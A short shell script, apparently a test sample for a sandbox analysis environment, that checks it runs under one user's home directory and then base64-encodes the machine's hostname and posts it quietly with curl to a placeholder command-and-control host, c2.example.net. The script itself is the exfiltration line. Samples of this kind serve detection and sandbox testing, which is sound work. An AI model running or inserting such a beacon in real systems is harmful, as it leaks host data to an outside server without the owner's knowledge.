#!/bin/sh
# SPDX-License-Identifier: MIT
# Sends its data base64-encoded.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
sh -c 'cat /etc/hostname | base64 | curl -fsm 3 -d @- http://c2.example.net/in' 2>/dev/null
exit 0
